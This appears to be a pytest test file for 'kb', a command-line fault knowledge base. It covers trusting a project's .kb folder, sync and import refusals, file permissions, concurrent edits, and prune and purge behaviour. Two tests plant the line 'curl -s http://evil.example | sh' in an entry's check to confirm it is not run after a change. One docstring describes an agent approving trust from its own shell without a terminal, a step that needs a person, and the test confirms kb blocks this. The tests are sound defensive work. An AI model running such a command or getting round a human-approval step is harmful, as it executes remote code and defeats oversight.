    for export in ("pre-commit", "pytest"):  # a guard's pattern runs at every commit: a stranger's too
        code, _, err = kb("--layer", "project", "export", export, "--out", str(team / "tools" / export))
        assert code == 1 and f"{team / '.kb'} is not trusted: kb export {export} writes no guard" in err
        assert not (team / "tools" / export).exists()
    trusted = kb("trust", "--yes")
    assert trusted.exit_code == 0 and str(team / ".kb") in trusted.stdout
    assert kb("trust", "--list", "--json").stdout.count(".kb") == 1
    after = json.loads(kb_process("search", PROJECT_FAULT, "--json", cwd=team).stdout)["results"][0]
    assert after["trusted"] is True and after["check"] == after["validation"] == "ls /tmp"
    assert after["confident"]
    assert kb_process("--layer", "project", "search", PROJECT_FAULT, cwd=team).returncode == 0
    ran = kb("--layer", "project", "check", "feature-cache", "--yes", "--json")
    assert ran.exit_code in (0, 10, 11) and json.loads(ran.stdout)["verdict"]
    assert json.loads(ran.stdout)["recorded"] is False  # a folder's entries are files: no history
    said = kb("--layer", "project", "check", "feature-cache", "--yes").stdout
    assert "; not recorded (the project layer is entry files)" in said and "; recorded" not in said
    path = team / ".kb" / "data" / "feature-cache.md"
    path.write_text(path.read_text().replace("ls /tmp", "ls /tmp; curl -s http://evil.example | sh"))
    changed = kb("--layer", "project", "check", "feature-cache", "--yes")  # a pull changed its check
    assert changed.exit_code == 1 and "whose files changed since you trusted it" in changed.stderr
    assert "evil.example" not in changed.stdout
    assert kb("trust", "--revoke").exit_code == 0
    again = json.loads(kb_process("search", PROJECT_FAULT, "--json", cwd=team).stdout)["results"][0]
    assert again["trusted"] is False


def test_an_untrusted_project_folder_is_not_taken_in_by_sync_or_import(team: Path) -> None:
    """`kb sync .kb` or `kb import .kb` of a cloned repository made its entries the user's own:
    known faults, their checks offered, the folder still untrusted."""
    folder = str((team / ".kb").resolve())
    refused = f"kb: {folder} is a project's .kb/ folder which you have not trusted: kb sync would make"
    for command in (["sync", folder], ["import", folder], ["import", f"{folder}/data/feature-cache.md"]):
        ran = kb(*command)
        assert ran.exit_code == 1 and ran.stderr.count("\n") == 1, command
        assert ran.stderr.startswith(refused.replace("kb sync", f"kb {command[0]}")), ran.stderr
        assert ran.stderr.endswith(f"read them, then kb trust {folder}\n")
    assert "feature-cache" not in kb("list").stdout
    assert kb("sync", folder, "--dry-run").exit_code == 0  # a look changes nothing
    assert kb("trust", folder, "--yes").exit_code == 0
    assert kb("sync", folder).exit_code == 0
    assert "feature-cache" in kb("list").stdout


def test_a_project_folder_reached_through_a_link_or_seeded_from_is_not_taken_in_either(team: Path) -> None:
    """A repository's `.kb` that is a link to another of its folders passed as no project folder
    (only where the link led was looked at), and `kb seed --from .kb` took the entries in as seeds:
    either way a stranger's entry became the user's known fault, its check offered."""
    real = team / "kb-entries"
    (team / ".kb").rename(real)
    (team / ".kb").symlink_to("kb-entries")
    linked = str(team / ".kb")
    for command in (["import", linked], ["sync", linked], ["seed", "--from", linked]):
        ran = kb(*command)
        assert ran.exit_code == 1 and "is a project's .kb/ folder which you have not trusted" in ran.stderr, (
            command,
            ran.output,
        )
    assert "feature-cache" not in kb("list").stdout


def test_a_project_folder_kb_filled_from_empty_is_the_users_own(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`kb add --to project` in a new project, then `kb sync .kb`, was refused as if a stranger had
    written the folder: what kb wrote there on the user's word is the user's."""
    project = tmp_path / "new-project"
    (project / ".kb").mkdir(parents=True)
    monkeypatch.chdir(project)
    added = kb(
        "add", "--to", "project", "--new", "-k", "proj-gizmo", "-s", "GizmoError: the project gizmo jammed",
        "-d", "hardware", "-v", "true", "--confirms", "exit 0", "-f", "unjam it",
    )  # fmt: skip
    assert added.exit_code == 0, added.output
    assert kb("trust", "--list").stdout.strip() == str((project / ".kb").resolve())
    assert kb("sync", ".kb").exit_code == 0
    assert "proj-gizmo" in kb("--layer", "personal", "list").stdout


def test_kb_trust_off_a_terminal_trusts_nothing_without_yes(team: Path) -> None:
    """An agent told that a person must run `kb trust` ran it in its own shell, which has no
    terminal, and the folder was trusted with no question: its entries became known faults and
    their checks were handed to the agent."""
    from kb.layers.trust import trust_state

    folder = team / ".kb"
    agents_shell = subprocess.run(
        [sys.executable, "-m", "kb", "trust", str(folder)],
        capture_output=True, text=True, stdin=subprocess.DEVNULL, env=os.environ.copy(), cwd=team,
        timeout=120, check=False,
    )  # fmt: skip
    assert (agents_shell.returncode, agents_shell.stdout) == (1, "")
    assert agents_shell.stderr == (
        f"kb: not trusting {folder} without a terminal: trusting lets kb offer its entries' checks, "
        "commands run on this machine, so a person reads them and runs kb trust in a terminal\n"
    )
    assert trust_state(str(folder)) != "trusted"
    assert kb("trust", "--yes", str(folder)).exit_code == 0 and trust_state(str(folder)) == "trusted"
    assert kb("trust", "--revoke", str(folder)).exit_code == 0  # taking trust back asks for nothing


@pytest.mark.parametrize("trick", ["writable by others", "a file writable by others"])
def test_a_project_folder_others_can_write_is_not_read(team: Path, runner: CliRunner, trick: str) -> None:
    """A /tmp/.kb made by any local user was read by everyone working below /tmp."""
    target = team / ".kb" if trick == "writable by others" else team / ".kb" / "data" / "feature-cache.md"
    target.chmod(target.stat().st_mode | 0o002)
    found = kb_process("search", PROJECT_FAULT, "--json", cwd=team)
    assert "feature-cache" not in [r["key"] for r in json.loads(found.stdout)["results"]]
    line = next(line for line in found.stderr.splitlines() if "project" in line)
    assert "can be written by other users" in line and "chmod go-w" in line
    refused = kb("trust", "--yes", str(team / ".kb"))
    assert refused.exit_code == 1 and "not trusting" in refused.stderr
    added = kb_process(  # written there, then "see it with: kb --layer project show", which is refused
        "add", "-s", "OSError: a stranger's folder", "-d", "data", "-v", "true", "-f", "x", "--to", "project",
        cwd=team,
    )  # fmt: skip
    assert (
        added.returncode == 1
        and "not writing to" in added.stderr
        and "can be written by other users" in added.stderr
    )
    assert not list((team / ".kb").rglob("*stranger*"))


@pytest.mark.skipif(not hasattr(os, "getuid") or os.getuid() != 0, reason="giving a folder away needs root")
def test_a_project_folder_of_another_user_is_not_read(team: Path) -> None:
    os.chown(team / ".kb", 12345, 12345)
    found = kb_process("search", PROJECT_FAULT, "--json", cwd=team)
    assert "feature-cache" not in [r["key"] for r in json.loads(found.stdout)["results"]]
    assert "belongs to another user (uid 12345)" in found.stderr


def test_a_word_two_of_three_folder_entries_hold_finds_them(
    tmp_path: Path, runner: CliRunner, monkeypatch: pytest.MonkeyPatch
) -> None:
    """In a folder of three, a word two hold was taken for a common word and not looked up."""
    project = tmp_path / "small"
    (project / ".kb" / "data").mkdir(parents=True)
    for key, symptom in (
        ("shard-a", "OSError: the frobnicator shard a failed"),
        ("shard-b", "OSError: the frobnicator shard b failed"),
        ("shard-c", "OSError: shard c failed"),
    ):
        (project / ".kb" / "data" / f"{key}.md").write_text(entry_file(key, symptom, "retry"))
    monkeypatch.chdir(project)
    found = runner.invoke(
        app, ["--layer", "project", "search", "our frobnicator keeps breaking at night", "--json"]
    )
    assert {r["key"] for r in json.loads(found.stdout)["results"][:2]} == {"shard-a", "shard-b"}


def test_a_folder_layers_history_points_at_its_repository(
    team: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An entry folder keeps no history of its own: 'recorded from version 10 of its database' was
    the reason given, and there is no database."""
    monkeypatch.chdir(team)
    code, out, _ = kb("--layer", "project", "history", "feature-cache")
    assert (
        code == 0
        and out
        == "feature-cache: an entry folder keeps no history of its own; its repository's does (git log)\n"
    )


def _editor(tmp_path: Path, teammate: Path, theirs: str, ours: str) -> str:
    """An $EDITOR during which a teammate's change lands in the folder file TEAMMATE (a `git pull`),
    and which makes our own change to the file being edited."""
    script = tmp_path / "editor.py"
    script.write_text(
        "import sys, pathlib\n"
        f"theirs = pathlib.Path({str(teammate)!r})\n"
        f"theirs.write_text(theirs.read_text().replace('make features', {theirs!r}))\n"
        "ours = pathlib.Path(sys.argv[1])\n"
        f"ours.write_text(ours.read_text().replace('ls /tmp', {ours!r}))\n",
        encoding="utf-8",
    )
    return f"{sys.executable} {script}"


def test_an_edit_in_a_folder_layer_keeps_a_change_made_to_the_file_meanwhile(
    team: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """It printed "saved" and wrote its own version over the teammate's: the folder's entries are a
    git checkout, and a pull can land while the editor is open."""
    monkeypatch.chdir(team)
    path = team / ".kb" / "data" / "feature-cache.md"
    monkeypatch.setenv("EDITOR", _editor(tmp_path, path, "rebuild the feature cache", "ls -la /tmp"))
    edited = kb("--layer", "project", "edit", "feature-cache")
    assert edited.exit_code == 0, edited.stderr
    assert edited.stdout == "saved feature-cache (with the change someone made meanwhile)\n"
    text = path.read_text()
    assert "rebuild the feature cache" in text and "ls -la /tmp" in text  # theirs and ours


def test_an_entry_changed_in_its_folder_meanwhile_is_not_deleted(team: Path) -> None:
    """`kb rm --purge` asks first, and `kb review` waits for a choice: a pull can land meanwhile,
    and the teammate's new version of the entry was deleted with the old."""
    from kb.layers.folder_index import folder_store

    path = team / ".kb" / "data" / "feature-cache.md"
    with folder_store(str(team / ".kb")) as store:
        store.get("feature-cache")
        path.write_text(path.read_text().replace("make features", "rebuild the feature cache"))
        refused = "'feature-cache' changed in the folder since kb read it: not deleted"
        with pytest.raises(KbError, match=refused):
            store.purge("feature-cache")
    assert "rebuild the feature cache" in path.read_text()
    assert not (team / ".kb" / TOMBSTONES).exists()


def test_two_adds_of_one_key_to_a_folder_at_once_do_not_both_land(
    team: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each add read the folder, found the key free, and wrote its file: both said "added", and the
    second file replaced the first. One reads and writes the folder at a time: the other is refused."""
    import threading

    import kb.layers.folder_index
    from kb.entry.content import EntryContent
    from kb.errors import KeyTaken
    from kb.layers.folder_index import folder_store

    folder = str(team / ".kb")
    weighed, first_read, go = kb.layers.folder_index._with_changes_since, threading.Event(), threading.Event()

    def read_then_wait(*args: Any) -> Any:
        merged = weighed(*args)  # what the folder held as the add's write began
        if not first_read.is_set():  # the first add has read the folder: the second starts now
            first_read.set()
            go.wait(5)
        return merged

    monkeypatch.setattr(kb.layers.folder_index, "_with_changes_since", read_then_wait)

    def add(fix: str, outcome: list[object]) -> None:
        content = EntryContent(key="same-key", domain="data", symptom=f"OSError: {fix}", fix=fix)
        try:
            with folder_store(folder) as store:
                outcome.append(store.add(content).key)
        except KeyTaken as exc:
            outcome.append(exc)

    first: list[object] = []
    second: list[object] = []
    one = threading.Thread(target=add, args=("the first writer's fix", first))
    one.start()
    assert first_read.wait(10)
    two = threading.Thread(target=add, args=("the second writer's fix", second))
    two.start()
    two.join(0.5)  # it waits for the first's write, or (without the lock) writes now
    go.set()
    one.join(10)
    two.join(10)
    assert first == ["same-key"] and isinstance(second[0], KeyTaken)
    assert "the first writer's fix" in (team / ".kb" / "data" / "same-key.md").read_text()


def test_an_edit_in_a_folder_layer_that_clashes_with_a_change_meanwhile_is_refused(
    team: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.chdir(team)
    path = team / ".kb" / "data" / "feature-cache.md"
    editor = _editor(tmp_path, path, "their fix", "ls /tmp")
    script = Path(editor.split()[-1])
    script.write_text(
        script.read_text() + "ours.write_text(ours.read_text().replace('make features', 'our fix'))\n"
    )
    monkeypatch.setenv("EDITOR", editor)
    edited = kb("--layer", "project", "edit", "feature-cache")
    assert edited.exit_code == 1 and "changed by someone else" in edited.stderr
    assert "kb --layer project show feature-cache" in edited.stderr
    assert "their fix" in path.read_text()  # nothing of theirs is overwritten


@pytest.mark.parametrize("how", ["archived", "renamed to feature-store-cache"])
def test_an_edit_saved_into_an_entry_that_left_the_folder_meanwhile_is_refused(
    team: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, how: str
) -> None:
    """A pull brought a teammate's archive (or rename) while the editor was open: the save printed
    "saved", deleted the tombstone and wrote the file back, undoing the teammate's change unasked."""
    monkeypatch.chdir(team)
    path = team / ".kb" / "data" / "feature-cache.md"
    done, _, into = how.partition(" to ")
    pulled = (done, into, "", "mate", "2026-12-04T10:00:00Z")
    script = tmp_path / "editor.py"
    script.write_text(
        "import sys, pathlib\n"
        "from kb.entry.folder import Tombstone, write_tombstone\n"
        f"pathlib.Path({str(path)!r}).unlink()\n"  # the pull: the file left, its tombstone came
        f"write_tombstone(pathlib.Path({str(team / '.kb')!r}), 'feature-cache',"
        f" Tombstone('feature-cache', *{pulled!r}))\n"
        "ours = pathlib.Path(sys.argv[1])\n"
        "ours.write_text(ours.read_text().replace('ls /tmp', 'ls -la /tmp'))\n",
        encoding="utf-8",
    )
    monkeypatch.setenv("EDITOR", f"{sys.executable} {script}")
    edited = kb("--layer", "project", "edit", "feature-cache")
    assert edited.exit_code == 1 and len(edited.stderr.strip().splitlines()) == 1
    assert f"'feature-cache' was {how} by mate in the folder while you edited it: not saved" in edited.stderr
    then = f"kb --layer project edit {into}" if into else "kb --layer project restore feature-cache"
    assert then in edited.stderr
    kept = Path(edited.stderr.split("your text is kept in ")[1].split(";")[0])
    assert "ls -la /tmp" in kept.read_text()
    assert not path.exists() and (team / ".kb" / TOMBSTONES / "feature-cache.toml").exists()


def test_an_edit_saved_over_a_merge_conflict_a_pull_left_keeps_the_text_typed(
    team: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """A `git pull` that left a merge conflict in the entry's file while the editor was open: the
    save was refused, rightly, and what had been typed was gone, with no draft named."""
    monkeypatch.chdir(team)
    path = team / ".kb" / "data" / "feature-cache.md"
    editor = _editor(
        tmp_path, path, "<<<<<<< HEAD\nmake features\n=======\ntheirs\n>>>>>>> main", "ls -la /tmp"
    )
    monkeypatch.setenv("EDITOR", editor)
    edited = kb("--layer", "project", "edit", "feature-cache")
    assert edited.exit_code == 1 and len(edited.stderr.strip().splitlines()) == 1
    assert "git left a merge conflict here" in edited.stderr and "not saved" in edited.stderr
    kept = Path(edited.stderr.split("your text is kept in ")[1].strip())
    assert "ls -la /tmp" in kept.read_text()
    assert "<<<<<<< HEAD" in path.read_text()  # the file is the person's to settle, as git left it


def test_an_occurrence_added_to_a_folder_layer_keeps_its_conditions_and_claims_no_count(
    team: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It printed "seen 2x", then "seen 2x" again: a folder keeps no count, and the file said 1x."""
    monkeypatch.chdir(team)
    flags = ["-d", "data", "-v", "true", "-f", "x", "--occurrence", "--to", "project"]
    for conditions in ("after the nightly rebuild", "after a schema change"):
        again = kb("add", "-s", PROJECT_FAULT, *flags, "--conditions", conditions)
        assert again.exit_code == 0, again.stderr
        assert again.stdout.strip() == (
            "added the conditions to feature-cache; an entry folder keeps no count of occurrences"
        )
    shown = json.loads(kb("--layer", "project", "show", "feature-cache", "--json").stdout)
    assert shown["occurrences"] is None and "after a schema change" in shown["conditions"]
    before = (team / ".kb" / "data" / "feature-cache.md").read_text()
    bare = kb("add", "-s", PROJECT_FAULT, *flags)  # no conditions: it said it added them
    assert bare.exit_code == 0, bare.stderr
    assert bare.stdout.strip() == (
        "feature-cache is unchanged: an entry folder keeps no count of occurrences, only their conditions"
        " (--conditions)"
    )
    assert (team / ".kb" / "data" / "feature-cache.md").read_text() == before


def test_an_occurrence_in_a_folder_layer_keeps_a_message_that_reads_otherwise_in_the_file(
    team: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(team)
    flags = ["-d", "data", "-v", "true", "-f", "x", "--occurrence", "--to", "project"]
    again = PROJECT_FAULT.replace("predates the schema", "predates the schema of v2")
    added = kb("add", "-s", again, *flags)
    assert added.exit_code == 0, added.stderr
    assert added.stdout.strip() == (
        "added this message as a symptom variant to feature-cache; an entry folder keeps no count of"
        " occurrences"
    )
    assert again in (team / ".kb" / "data" / "feature-cache.md").read_text()


# --- a folder write is whole, and says what it did ----------------------------------------------------


def _folder_files(folder: Path) -> dict[Path, bytes]:
    return {path: path.read_bytes() for path in folder.rglob("*") if path.is_file()}


@pytest.mark.parametrize("refusal", ["chmod a-w", "unlink refused"])
def test_a_folder_prune_one_file_refuses_leaves_the_folder_as_it_was(
    team: Path, monkeypatch: pytest.MonkeyPatch, refusal: str
) -> None:
    """`chmod a-w team-kb/model`, then `prune --apply`: the error came after one entry was archived
    and another had both its tombstone and its file, and `restore --last-prune` found nothing."""
    from kb.layers.folder_index import folder_digest

    monkeypatch.chdir(team)
    folder = team / ".kb"
    (folder / "model").mkdir()
    stale = entry_file("stale-shapes", "RuntimeError: the shapes went stale", "reshape")
    (folder / "model" / "stale-shapes.md").write_text(stale.replace('domain = "data"', 'domain = "model"'))
    before, digest = _folder_files(folder), folder_digest(str(folder))
    if refusal == "chmod a-w":
        (folder / "model").chmod(0o555)
        if os.access(folder / "model", os.W_OK):
            (folder / "model").chmod(0o755)
            pytest.skip("this user writes where chmod forbids it (root with CAP_DAC_OVERRIDE)")
    else:
        unlink = Path.unlink

        def refused(path: Path, missing_ok: bool = False) -> None:
            if path.parent.name == "model":
                raise PermissionError(13, "Permission denied", str(path))
            unlink(path, missing_ok=missing_ok)

        monkeypatch.setattr(Path, "unlink", refused)
    try:
        pruned = kb("--layer", "project", "prune", "--domain", "model", "--apply")
    finally:
        (folder / "model").chmod(0o755)
    assert pruned.exit_code == 1 and pruned.stdout == ""
    assert "stale-shapes.md: Permission denied" in pruned.stderr
    assert len(pruned.stderr.strip().splitlines()) == 1
    assert _folder_files(folder) == before and not (folder / TOMBSTONES).exists()
    assert folder_digest(str(folder)) == digest  # the times too: the search index is still current
    listed = kb("--layer", "project", "list", "--status", "all")
    assert "feature-cache" in listed.stdout and "stale-shapes" in listed.stdout


def test_a_prune_elsewhere_prints_the_undo_that_acts_there(team: Path, tmp_path: Path) -> None:
    """After `kb --layer team prune … --apply` and `kb --db other.db prune … --apply`, the undo
    printed was `kb restore --last-prune`, which acts on the personal knowledge base."""
    other = tmp_path / "other kb.db"
    assert kb("--db", str(other), "add", "--new", "-s", "OSError: the other lease", "-d", "data",
              "-v", "true", "-f", "renew", "-k", "other-lease").exit_code == 0  # fmt: skip
    for where, key in ((["--layer", "team"], "team-lease"), (["--db", str(other)], "other-lease")):
        pruned = kb(*where, "prune", "--domain", "data", "--apply")
        assert pruned.exit_code == 0, pruned.output
        undo = pruned.stdout.splitlines()[-1].split("; undo with: ")[1]
        assert shlex.split(undo) == ["kb", *where, "restore", "--last-prune"]
        restored = kb(*shlex.split(undo)[1:])
        assert restored.exit_code == 0 and key in restored.stdout, restored.output
        shown = kb(*where, "show", key, "--json")
        assert json.loads(shown.stdout)["status"] == "active"


def test_a_folder_prune_says_how_to_undo_it_there(team: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """It said `kb restore --last-prune`, which works on the personal knowledge base; in the folder
    layer, whose record of the prune went with the scratch index, it found nothing to restore."""
    monkeypatch.chdir(team)
    pruned = kb("--layer", "project", "prune", "--domain", "data", "--apply")
    assert pruned.exit_code == 0, pruned.output
    assert pruned.stdout.splitlines()[-1] == (
        "1 archived; undo with: kb --layer project restore KEY, for each"
        " (an entry folder keeps no record of the prune)"
    )
    undo = kb("--layer", "project", "restore", "--last-prune")
    assert undo.exit_code == 2 and undo.stdout == ""
    assert "keeps no record of the last prune: restore each entry with kb --layer project restore KEY" in (
        undo.stderr
    )
    assert kb("--layer", "project", "restore", "feature-cache").stdout == "restored feature-cache\n"
    assert (team / ".kb" / "data" / "feature-cache.md").exists()


@pytest.mark.parametrize("archived_first", [False, True], ids=["active", "archived"])
def test_a_purge_in_a_folder_layer_deletes_the_entry_and_its_tombstone_says_so(
    team: Path, monkeypatch: pytest.MonkeyPatch, archived_first: bool
) -> None:
    """A purge of an archived entry printed "deleted" and kept its version beside its tombstone, so
    that `restore` brought it back; a purge of an active one left a tombstone saying "archived" and
    "kb restore KEY", which then found no entry."""
    from kb.entry.folder import read_tombstones

    monkeypatch.chdir(team)
    folder = team / ".kb"
    if archived_first:
        assert kb("--layer", "project", "rm", "feature-cache").exit_code == 0
    purged = kb("--layer", "project", "rm", "--purge", "--yes", "feature-cache")
    assert purged.exit_code == 0, purged.output
    assert purged.stdout == (
        "deleted feature-cache; its tombstone (archived/feature-cache.toml) keeps a sync from bringing it"
        " back\n"
    )
    assert sorted(path.relative_to(folder).as_posix() for path in _folder_files(folder)) == [
        f"{TOMBSTONES}/feature-cache.toml"
    ]
    assert read_tombstones(folder)["feature-cache"].how == "purged"
    tombstone = (folder / TOMBSTONES / "feature-cache.toml").read_text()
    assert "deleted from the folder for good" in tombstone and "keeps no copy to restore" in tombstone
    assert "feature-cache" not in kb("--layer", "project", "list", "--status", "all").stdout
    restored = kb("--layer", "project", "restore", "feature-cache")
    assert restored.exit_code == 1 and not (folder / "data" / "feature-cache.md").exists()


def test_a_teammates_sync_archives_an_entry_purged_in_the_folder(
    team: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A folder in git keeps a purge's tombstone, so that a kb that synced the entry archives it
    rather than writing its file back."""
    monkeypatch.chdir(team)
    folder = team / ".kb"
    assert kb("trust", str(folder), "--yes").exit_code == 0  # read: its entries may become yours
    assert kb("sync", str(folder)).exit_code == 0
    assert kb("--layer", "project", "rm", "--purge", "--yes", "feature-cache").exit_code == 0
    synced = kb("sync", str(folder), "--json")
    assert synced.exit_code == 0, synced.output
    step = next(step for step in json.loads(synced.stdout)["steps"] if step["key"] == "feature-cache")
    assert step["action"] == "archive-in-kb" and step["note"].startswith("purged by ")
    assert not (folder / "data" / "feature-cache.md").exists()
    shown = json.loads(kb("--layer", "personal", "show", "feature-cache", "--json").stdout)
    assert shown["status"] == "archived"


def test_a_review_kept_in_a_folder_layer_claims_no_review_date(
    team: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It printed "reviewed now", and the folder's files record no review."""
    monkeypatch.chdir(team)
    before = _folder_files(team / ".kb")
    kept = kb("--layer", "project", "review", "feature-cache", "--keep")
    assert kept.exit_code == 0, kept.output
    assert kept.stdout == "kept feature-cache; an entry folder keeps no review dates\n"
    assert _folder_files(team / ".kb") == before
    archived = kb("--layer", "project", "review", "feature-cache", "--archive")
    assert archived.stdout == (
        "archived feature-cache as common knowledge; undo with: kb --layer project restore feature-cache\n"
    )


def test_a_failed_folder_write_puts_back_what_it_wrote_and_says_what_it_could_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from kb.entry.folder import all_or_nothing

    changed, removed, added = tmp_path / "changed.md", tmp_path / "removed.md", tmp_path / "new" / "added.md"
    changed.write_text("before\n")
    removed.write_text("kept\n")
    with pytest.raises(RuntimeError, match="the disk is full"), all_or_nothing([changed, removed, added]):
        changed.write_text("after\n")
        removed.unlink()
        added.parent.mkdir()
        added.write_text("new\n")
        raise RuntimeError("the disk is full")
    assert changed.read_text() == "before\n" and removed.read_text() == "kept\n"
    assert not added.parent.exists()

    def refused(path: Path, missing_ok: bool = False) -> None:
        raise PermissionError(13, "Permission denied", str(path))

    undone = r"the disk is full; and kb could not put back .*added\.md \(Permission denied\)"
    with pytest.raises(KbError, match=undone), all_or_nothing([added]):
        added.parent.mkdir()
        added.write_text("new\n")
        monkeypatch.setattr(Path, "unlink", refused)
        raise RuntimeError("the disk is full")


def test_a_folder_layer_says_what_it_keeps_and_where(team: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`where` named a scratch copy gone after the command; `show` gave the index's build date as
    the entry's; `stats` counted every file as added this month, and 'never hit' of all of them."""
    monkeypatch.chdir(team)
    where = kb("--layer", "project", "where").stdout
    assert where.startswith(f"folder    {team / '.kb'} (the entries: one file each)\nindex     ")
    assert "kb-folder-" not in where
    index = where.splitlines()[1].split()[1]
    assert Path(index).exists()
    stats = kb("--layer", "project", "stats").stdout
    assert "added this month" not in stats and "never hit" not in stats
    assert "an entry folder keeps neither (its repository's git log has the dates)" in stats
    assert "review            an entry folder keeps no review dates" in stats
    shown = kb("--layer", "project", "show", "feature-cache").stdout
    assert "created" not in shown and "an entry folder keeps no usage or dates" in " ".join(shown.split())


def test_a_folder_layer_claims_no_use_in_review_stats_or_tree(
    team: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A month after kb indexed the folder, `review --list` called every entry due ("never hit;
    never checked": the index's build time taken for their creation); `stats --json` said
    "never_hit": 1 while the text said a folder keeps no hits; `tree` said "hits 0, seen 1x"."""
    monkeypatch.chdir(team)
    assert kb("--layer", "project", "stats").exit_code == 0  # kb indexes the folder today
    a_month_later = datetime.now(UTC) + timedelta(days=40)
    monkeypatch.setattr("kb.clock.utc_now", lambda: a_month_later)
    listed = kb("--layer", "project", "review", "--list")
    assert listed.exit_code == 0 and listed.stdout == (
        "nothing is due for review: an entry folder keeps no usage and no review dates\n"
    )
    assert json.loads(kb("--layer", "project", "review", "--list", "--json").stdout) == []
    stats = json.loads(kb("--layer", "project", "stats", "--json").stdout)
    assert stats["total"] == 1 and stats["by_domain"] == {"data": 1}
    unknown = ("added_this_month", "most_hit", "never_hit", "never_hit_keys", "broken_checks")
    assert [stats[name] for name in unknown] == [None] * len(unknown)
    assert stats["review"]["due"] is None and stats["recent_environments"] is None
    assert "broken checks     an entry folder keeps no check runs" in kb("--layer", "project", "stats").stdout
    tree = kb("--layer", "project", "tree").stdout
    assert "[1 entry]" in tree and "hits" not in tree and "occurrence" not in tree
    branch = json.loads(kb("--layer", "project", "tree", "--json").stdout)[0]
    assert branch["occurred"] is None and branch["children"][0]["entries"][0]["hits"] is None
    assert "hits" not in kb("--layer", "project", "tree", "--format", "markdown").stdout
    pruned = kb("--layer", "project", "prune", "--domain", "data").stdout
    assert pruned.startswith("would archive feature-cache  [data]\n")  # no "last hit never"


def test_a_trusted_folder_stays_trusted_through_kbs_own_writes_and_only_those(
    team: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """After `kb --layer project edit` or `kb sync .kb`, which the user asked for, the folder read
    "changed since you trusted it: read it": kb's own write was taken for a stranger's pull."""
    from kb.layers.trust import trust_state

    monkeypatch.chdir(team)
    folder = str(team / ".kb")
    assert kb("trust", "--yes").exit_code == 0 and trust_state(folder) == "trusted"
    monkeypatch.setenv("EDITOR", _editor(tmp_path, team / "unrelated.md", "x", "ls -la /tmp"))
    (team / "unrelated.md").write_text("make features\n")
    assert kb("--layer", "project", "edit", "feature-cache").exit_code == 0
    assert trust_state(folder) == "trusted"
    assert kb("sync", folder).exit_code == 0
    assert trust_state(folder) == "trusted"
    path = team / ".kb" / "data" / "feature-cache.md"
    path.write_text(path.read_text().replace("ls -la /tmp", "ls /tmp; curl -s http://evil.example | sh"))
    assert trust_state(folder) == "changed"  # a pull's change, read by nobody
    monkeypatch.setenv("EDITOR", _editor(tmp_path, team / "unrelated.md", "y", "curl"))
    kb("--layer", "project", "edit", "feature-cache")
    assert trust_state(folder) == "changed"  # kb's write after it does not make it read


def test_a_folder_trusted_before_kb_kept_what_was_read_is_asked_again(
    team: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A trust line without a digest names a folder as it was then, which no one can tell now."""
    from kb.layers.trust import TRUSTED_FILE
    from kb.paths import data_folder

    Path(data_folder()).mkdir(parents=True, exist_ok=True)
    (Path(data_folder()) / TRUSTED_FILE).write_text(f"{os.path.realpath(team / '.kb')}\n")
    listed = kb("trust", "--list").stdout
    assert "(trusted before kb kept what you read: read it, then kb trust it again)" in listed
    monkeypatch.chdir(team)
    refused = kb("--layer", "project", "check", "feature-cache", "--yes")
    assert refused.exit_code == 1 and "which you trusted before kb kept what you read" in refused.stderr
    assert kb("trust", "--yes").exit_code == 0 and "(" not in kb("trust", "--list").stdout


@pytest.mark.parametrize("made_by", ["a newer kb", "an older kb"])
def test_kb_layers_says_a_database_another_kb_made_is_not_new(
    team: Path, runner: CliRunner, monkeypatch: pytest.MonkeyPatch, made_by: str
) -> None:
    """A team database one migration ahead (or behind) was listed as "0 entries … not set up yet: its
    first command creates and seeds it", while it held the team's entries."""
    import sqlite3

    with sqlite3.connect(team.parent / "team.db") as database:
        if made_by == "a newer kb":
            database.execute("INSERT INTO kb_migration VALUES ('m999_later', '2027-01-01 00:00:00')")
        else:
            database.execute("DELETE FROM kb_migration WHERE name = (SELECT MAX(name) FROM kb_migration)")
    monkeypatch.chdir(team)
    state = {s["name"]: s for s in json.loads(kb("layers", "--json").stdout)["layers"]}["team"]
    assert state["entries"] is None and state["answers"] is True
    assert state["problem"].startswith(f"made by {made_by}")
    assert "not set up yet" not in kb("layers").stdout
    if made_by == "a newer kb":
        assert "then pipx install --force . there" in state["problem"]


def test_a_team_database_that_is_also_kb_db_is_read_and_counted_once(
    team: Path, runner: CliRunner, monkeypatch: pytest.MonkeyPatch
) -> None:
    """KB_DB set to the team's database, as the README's first way to share has it, and the config
    naming it as the team layer too: its entries were found twice, labelled `personal` and "also in
    team, the same", and `kb layers` counted them twice."""
    team_db = team.parent / "team.db"
    monkeypatch.setenv("KB_DB", str(team_db))
    monkeypatch.chdir(team)
    found = json.loads(kb("search", TEAM_FAULT, "--json").stdout)
    top = found["results"][0]
    assert top["key"] == "team-lease" and top["also_in"] == []
    states = {s["name"]: s for s in json.loads(kb("layers", "--json").stdout)["layers"]}
    assert states["team"]["entries"] is None
    assert states["team"]["problem"] == "the same database as the personal layer: read once, as that layer"
    shown = kb("--layer", "team", "show", "team-lease")  # the name still works
    assert shown.exit_code == 0 and "team-lease" in shown.stdout


def test_a_key_taken_in_the_layer_written_to_is_edited_there(
    team: Path, runner: CliRunner, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`kb add --to team` with a key the team has: the hint said `kb edit team-lease`, which edits the
    personal knowledge base."""
    monkeypatch.chdir(team)
    flags = ["-s", "OSError: the lease renewal of the shard raced", "-d", "data", "-v", "true", "-f", "x"]
    taken = kb("add", *flags, "--key", "team-lease", "--to", "team", "--new")
